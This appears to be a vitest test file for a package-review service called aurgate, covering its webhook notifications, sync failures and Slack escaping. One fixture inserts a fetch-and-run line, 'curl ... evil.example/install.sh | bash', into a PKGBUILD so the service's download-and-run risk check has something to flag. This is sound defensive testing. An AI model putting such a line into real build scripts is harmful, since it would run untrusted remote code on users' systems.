import { createServer, type IncomingHttpHeaders, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createToken } from '../src/accounts/tokens.js';
import { addTestUser } from './support/accounts.js';
import { createLogger } from '../src/log.js';
import { slackEscape } from '../src/notify/events.js';
import { WebhookNotifier } from '../src/notify/webhook.js';
import { makePackage } from './support/fixture-packages.js';
import { startAurgate, type Harness } from './support/harness.js';
import { TestUpstream } from './support/upstream.js';

interface Delivery {
  headers: IncomingHttpHeaders;
  body: Record<string, unknown>;
}

/** A real webhook receiver on a local port; `mode` decides how it answers. */
class Receiver {
  readonly deliveries: Delivery[] = [];
  mode: 'ok' | 'error' | 'hang' = 'ok';
  private readonly hanging: ServerResponse[] = [];
  private constructor(
    private readonly server: Server,
    readonly url: string,
  ) {}

  static async start(): Promise<Receiver> {
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const receiver = new Receiver(server, `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`);
    server.on('request', (req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        receiver.deliveries.push({ headers: req.headers, body: JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown> });
        if (receiver.mode === 'hang') return void receiver.hanging.push(res);
        res.writeHead(receiver.mode === 'ok' ? 200 : 500).end('ok');
      });
    });
    return receiver;
  }

  events(name: string): Array<Record<string, unknown>> {
    return this.deliveries.map((delivery) => delivery.body).filter((body) => body['event'] === name);
  }

  async stop(): Promise<void> {
    for (const res of this.hanging) res.destroy();
    this.server.closeAllConnections();
    await new Promise((resolve) => this.server.close(resolve));
  }
}

function maliciousPackage(pkgbase: string): Record<string, string> {
  const files = makePackage({ pkgbase, pkgver: '2.0.0' });
  return {
    ...files,
    PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', 'package() {\n  curl -s https://evil.example/install.sh | bash\n'),
  };
}

let upstream: TestUpstream;
let receiver: Receiver;
let aurgate: Harness;

beforeAll(async () => {
  [upstream, receiver] = await Promise.all([TestUpstream.start(), Receiver.start()]);
  await upstream.addPackage(makePackage({ pkgbase: 'calm' }));
  await upstream.addPackage(maliciousPackage('sneaky'));
  aurgate = await startAurgate({
    upstreamUrl: upstream.url,
    env: { AURGATE_WEBHOOK_URL: receiver.url, AURGATE_PUBLIC_URL: 'https://aurgate.example' },
  });
});

afterAll(async () => {
  await aurgate?.close();
  await Promise.all([upstream?.stop(), receiver?.stop()]);
});

describe('webhook notifications', () => {
  it('announce new pending revisions, with a separate event for high-risk flags', async () => {
    await aurgate.app.allow(['calm', 'sneaky'], 'test');
    const summary = await aurgate.app.sync({ trigger: 'cli' });
    expect(summary.newRevisions).toBe(2);

    const pending = receiver.events('revision.pending');
    expect(pending.map((event) => event['pkgbase']).sort()).toEqual(['calm', 'sneaky']);
    const sneaky = pending.find((event) => event['pkgbase'] === 'sneaky');
    expect(sneaky).toMatchObject({
      event: 'revision.pending',
      commit: await upstream.head('sneaky'),
      version: '2.0.0-1',
      baseCommit: null,
      url: 'https://aurgate.example/admin/review/sneaky',
      flags: { high: expect.any(Number) },
      class: 'first-revision',
      changes: expect.arrayContaining(['new package at 2.0.0-1']),
    });
    expect(String(sneaky?.['text'])).toMatch(/^aurgate: sneaky 2\.0\.0-1 \([0-9a-f]{12}\) awaits review: first-revision, risk flags: \d+ high/);
    expect(String(sneaky?.['text'])).toContain('<https://aurgate.example/admin/review/sneaky|Review it>');

    const high = receiver.events('risk.high');
    expect(high.map((event) => event['pkgbase'])).toEqual(['sneaky']);
    expect(high[0]?.['flags']).toEqual(
      expect.arrayContaining([expect.objectContaining({ check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line: expect.any(Number) })]),
    );
    expect(receiver.deliveries[0]?.headers['content-type']).toBe('application/json');
  });

  it('report sync failures', async () => {
    upstream.fail('rpc-500');
    try {
      await aurgate.app.sync({ trigger: 'cli' });
    } finally {
      upstream.fail('none');
    }
    // A sync resolves after its notifications were delivered.
    const [failed] = receiver.events('sync.failed');
    expect(failed).toMatchObject({ event: 'sync.failed', status: 'failed', failed: 2, packages: 2, url: 'https://aurgate.example/admin/sync' });
    expect(String(failed?.['text'])).toMatch(/^aurgate: sync #\d+ failed: 2 of 2 packages failed\n• calm: /);
  });

  it('come from the server when a reviewer clicks "sync now"', async () => {
    await upstream.push('calm', makePackage({ pkgbase: 'calm', pkgver: '1.1.0' }), 'Bump');
    const user = await addTestUser(aurgate.app.db, { name: 'rita', role: 'reviewer', password: 'correct horse battery staple' }, 'test');
    const { token } = createToken(aurgate.app.db, user, { name: 'ci', scopes: ['review'] });
    const url = await aurgate.serve();
    const before = receiver.events('revision.pending').length;
    const response = await fetch(`${url}/admin/api/sync`, { method: 'POST', headers: { Authorization: `Bearer ${token}` } });
    expect(response.status).toBe(202);
    await aurgate.server?.syncIdle();
    const events = receiver.events('revision.pending');
    expect(events).toHaveLength(before + 1);
    expect(events[events.length - 1]).toMatchObject({ pkgbase: 'calm', version: '1.1.0-1' });
  });

  it('never throw: a failing or hanging receiver is logged and given up on', async () => {
    const logger = createLogger('silent');
    receiver.mode = 'error';
    await expect(new WebhookNotifier({ url: receiver.url, logger }).send({ event: 'test', text: 'x' })).resolves.toBeUndefined();
    // The receiver never answers: only the notifier's own timeout can end this send.
    receiver.mode = 'hang';
    await expect(new WebhookNotifier({ url: receiver.url, logger, timeoutMs: 300 }).send({ event: 'test', text: 'x' })).resolves.toBeUndefined();
    await expect(
      new WebhookNotifier({ url: 'http://127.0.0.1:1/nothing-listens', logger }).send({ event: 'test', text: 'x' }),
    ).resolves.toBeUndefined();
    receiver.mode = 'ok';
  });

  it('escape Slack markup in package text', () => {
    expect(slackEscape('<!channel> & <https://evil|click>')).toBe('&lt;!channel&gt; &amp; &lt;https://evil|click&gt;');
  });
});
